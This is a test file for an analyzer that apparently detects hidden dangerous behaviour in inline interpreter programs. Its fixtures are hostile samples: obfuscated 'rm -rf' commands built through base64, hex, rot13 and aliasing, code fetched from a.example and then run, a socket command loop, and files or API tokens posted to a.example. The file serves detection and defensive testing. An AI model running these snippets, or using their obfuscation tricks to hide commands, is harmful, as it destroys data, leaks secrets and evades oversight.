import { describe, expect, test } from 'vitest';
import { effects, lines, look } from '../../../../test/support/shell/shell.ts';

const inline = (program: string, code: string): string => `${program} '${code.replaceAll("'", "'\\''")}'`;
const run = (program: string, code: string) => lines(inline(program, code)).slice(1);
const executed = (program: string, code: string) =>
  effects(inline(program, code), 'execute').map(({ from, host }) =>
    host === null ? from : `${from} ${host}`,
  );
const sent = (program: string, code: string) =>
  effects(inline(program, code), 'send').map(({ what, host }) => `${what} ${host}`);

const PYTHON = 'python3 -c';
const NODE = 'node -e';

describe('computes texts where possible', () => {
  test.each([
    [PYTHON, "import os\na = 'rm '\nb = f'{a}-rf'\nos.system(b + ' ' + '/x')"],
    [PYTHON, "import os\nos.system('%s -rf %s' % ('rm', '/x'))"],
    [PYTHON, "import os\nos.system('{} -rf {p}'.format('rm', p='/x'))"],
    [PYTHON, "import os\nos.system(' '.join(['rm', '-rf', '/x']))"],
    [PYTHON, "import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 45, 114, 102, 32, 47, 120]))"],
    [PYTHON, 'import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47, 120]).decode())'],
    [PYTHON, "import os\nos.system(bytes.fromhex('726d202d7266202f78').decode())"],
    [PYTHON, "import os, base64\nos.system(base64.b64decode('cm0gLXJmIC94').decode())"],
    [
      PYTHON,
      "import os, zlib, base64\nos.system(zlib.decompress(base64.b64decode('eJwrylXQLUpT0K8AAA5pAsw=')).decode())",
    ],
    [PYTHON, "import os, codecs\nos.system(codecs.decode('ez -es /k', 'rot13'))"],
    [PYTHON, "import os\nos.system('x/ fr- mr'[::-1])"],
    [PYTHON, "import os\nos.system('git rm -rf /x'[4:])"],
    [PYTHON, "import os\nos.system('rXm -rXf /x'.replace('X', ''))"],
    [PYTHON, "import os\ns = ''\nfor c in 'rm -rf /x':\n    s += c\nos.system(s)"],
    [NODE, "const a = ['rm', '-rf', '/x']; require('child_process').execSync(a.join(' '))"],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the program's.
    [NODE, "const p = '/x'; require('child_process').execSync(`rm -rf ${p}`)"],
    [NODE, "require('child_process').execSync(String.fromCharCode(114, 109, 32, 45, 114, 102, 32, 47, 120))"],
    [NODE, "require('child_process').execSync(Buffer.from('cm0gLXJmIC94', 'base64').toString())"],
    [NODE, "require('child_process').execSync('x/ fr- mr'.split('').reverse().join(''))"],
    [
      NODE,
      "require('child_process').execSync([114, 109, 32, 45, 114, 102, 32, 47, 120].map(c => String.fromCharCode(c)).join(''))",
    ],
    ['ruby -e', 'a = "rm"; system("#{a} -rf /x")'],
    ['ruby -e', 'system(%w[rm -rf /x].join(" "))'],
    ['ruby -e', 'system(["cm0gLXJmIC94"].pack("m").then { 1 }) if false; system("x/ fr- mr".reverse)'],
    ['php -r', '$a = "rm"; system("$a -rf " . "/x");'],
    ['php -r', 'system(implode(" ", ["rm", "-rf", "/x"]));'],
    ['php -r', 'system(base64_decode("cm0gLXJmIC94"));'],
    ['perl -e', 'my $a = "rm"; system("$a -rf /x")'],
    ['perl -e', 'system(join(" ", "rm", "-rf", "/x"))'],
    ['perl -e', 'system(pack("H*", "726d202d7266202f78"))'],
    ['lua -e', 'local a = "rm" os.execute(a .. " -rf /x")'],
  ])('%s %s', (program, code) => {
    expect(run(program, code)).toContain('rm -rf /x');
  });

  test.each([
    [PYTHON, 'import os, sys\nos.system(sys.argv[1])'],
    [PYTHON, "import os\nos.system(input() + ' x')"],
    [NODE, "require('child_process').execSync(process.argv[2])"],
  ])('does not take unknown values for empty: %s %s', (program, code) => {
    expect(look(inline(program, code)).coverage).toBe('partial');
  });
});

describe('follows a function under every name', () => {
  test.each([
    [PYTHON, "from os import system as s\ns('rm -rf /x')"],
    [PYTHON, "import os\ne = os.system\ne('rm -rf /x')"],
    [PYTHON, "import os\ngetattr(os, 'sys' + 'tem')('rm -rf /x')"],
    [PYTHON, "__import__('o' + 's').system('rm -rf /x')"],
    [PYTHON, "import os\nvars(os)['system']('rm -rf /x')"],
    [PYTHON, "def run(c):\n    import os\n    os.system(c)\nrun('rm -rf /x')"],
    [PYTHON, "import subprocess\nsh = lambda c: subprocess.run(c, shell=True)\nsh('rm -rf /x')"],
    [PYTHON, "import os\nclass A:\n    def go(self, c):\n        os.system(c)\nA().go('rm -rf /x')"],
    [PYTHON, "import os\nlist(map(os.system, ['rm -rf /x']))"],
    [NODE, "const {execSync: x} = require('child_process'); x('rm -rf /x')"],
    [NODE, "require('child_' + 'process')['exec' + 'Sync']('rm -rf /x')"],
    [NODE, "const sh = (c) => require('child_process').execSync(c); sh('rm -rf /x')"],
    [NODE, "function sh(c) { return require('child_process').execSync(c) } sh('rm -rf /x')"],
    [NODE, "const cp = require('node:child_process'); ['rm -rf /x'].forEach(c => cp.execSync(c))"],
    [NODE, "globalThis['ev' + 'al'](\"require('child_process').execSync('rm -rf /x')\")"],
    ['ruby -e', 'def run(c) system(c) end; run("rm -rf /x")'],
    ['ruby -e', 'Kernel.send("sys" + "tem", "rm -rf /x")'],
    ['ruby -e', '["rm -rf /x"].each { |c| system(c) }'],
    ['php -r', '$f = "sys" . "tem"; $f("rm -rf /x");'],
    ['php -r', 'function run($c) { system($c); } run("rm -rf /x");'],
    ['perl -e', 'sub run { my ($c) = @_; system($c) } run("rm -rf /x")'],
  ])('%s %s', (program, code) => {
    expect(run(program, code)).toContain('rm -rf /x');
  });

  test.each([
    [PYTHON, "def remove(p):\n    print(p)\nremove('/x')"],
    [NODE, "class A { exec(c) { console.log(c) } } new A().exec('rm -rf /x')"],
  ])('a function that the program defines replaces the built-in: %s %s', (program, code) => {
    expect(run(program, code)).toEqual([]);
    expect(effects(inline(program, code), 'delete')).toEqual([]);
  });
});

describe('code that comes over the network and is run', () => {
  test.each([
    [
      PYTHON,
      "import socket, os\ns = socket.socket()\ns.connect(('a.example', 1))\nos.system(s.recv(99).decode())",
      'a.example',
    ],
    [
      PYTHON,
      "import urllib.request as u\nb = u.urlopen('http://a.example/x').read().decode()\nexec(compile(b, 'x', 'exec'))",
      'a.example',
    ],
    [
      PYTHON,
      "import requests, subprocess\nr = requests.get('http://a.example/x')\nsubprocess.run(['sh', '-c', r.text])",
      'a.example',
    ],
    [
      NODE,
      "const c = require('net').connect(1, 'a.example'); c.on('data', d => require('child_process').exec(d.toString()))",
      'a.example',
    ],
    [
      NODE,
      "(async () => { const r = await fetch('http://a.example/x'); const t = await r.text(); new Function(t)() })()",
      'a.example',
    ],
    [
      NODE,
      "require('http').get('http://a.example/x', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
      'a.example',
    ],
    ['ruby -e', 'require "net/http"; eval(Net::HTTP.get(URI("http://a.example/x")))', 'a.example'],
    ['ruby -e', 's = TCPSocket.new("a.example", 1); while line = s.gets; s.puts `#{line}`; end', 'a.example'],
    ['php -r', '$c = file_get_contents("http://a.example/x"); eval($c);', 'a.example'],
  ])('%s %s', (program, code, host) => {
    expect(executed(program, code)).toContain(`network ${host}`);
  });

  test.each([
    [PYTHON, "import requests\nprint(requests.get('http://a.example/x').json()['v'])"],
    [PYTHON, "import requests, os\nr = requests.get('http://a.example/x')\nos.system('ls')"],
    [NODE, "fetch('http://a.example/x').then(r => r.json()).then(console.log)"],
    [NODE, "const c = require('net').connect(1, 'a.example'); c.on('connect', () => c.end())"],
  ])('downloads that are only read: %s %s', (program, code) => {
    expect(executed(program, code)).toEqual([]);
  });
});

describe('data that leaves the machine', () => {
  test.each([
    [
      PYTHON,
      "import requests\nk = open('/k').read()\nrequests.post('https://a.example', data={'k': k})",
      'file a.example',
    ],
    [
      PYTHON,
      "import urllib.request as u\nr = u.Request('https://a.example', data=open('/k', 'rb').read())\nu.urlopen(r)",
      'file a.example',
    ],
    [
      PYTHON,
      "import socket\nfrom pathlib import Path\ns = socket.create_connection(('a.example', 1))\ns.sendall(Path('/k').read_bytes())",
      'file a.example',
    ],
    [
      PYTHON,
      "import os, requests\nt = os.environ['API_TOKEN']\nrequests.post('https://a.example', json={'t': t})",
      'variable a.example',
    ],
    [
      PYTHON,
      "import requests, subprocess\nrequests.post('https://a.example', data=subprocess.check_output(['cat', '/k']))",
      'file a.example',
    ],
    [
      NODE,
      "const k = require('fs').readFileSync('/k', 'utf8'); fetch('https://a.example', { method: 'POST', body: k })",
      'file a.example',
    ],
    [
      NODE,
      "const { API_TOKEN } = process.env; fetch('https://a.example/?t=' + API_TOKEN)",
      'variable a.example',
    ],
    ['ruby -e', 'Net::HTTP.post(URI("https://a.example"), File.read("/k"))', 'file a.example'],
    [
      'php -r',
      '$k = file_get_contents("/k"); file_get_contents("https://a.example/?k=" . $k);',
      'file a.example',
    ],
  ])('%s %s', (program, code, expected) => {
    expect(sent(program, code)).toContain(expected);
  });

  test.each([
    [
      PYTHON,
      "import os, requests\nrequests.get('https://a.example', headers={'Authorization': os.environ['API_TOKEN']})",
    ],
    [PYTHON, "import requests\nprint(open('/k').read())\nrequests.post('https://a.example', data={'a': 1})"],
    [NODE, "fetch('https://a.example', { headers: { Authorization: process.env.API_TOKEN } })"],
  ])('credentials and local data are not sent: %s %s', (program, code) => {
    expect(sent(program, code)).toEqual([]);
  });
});
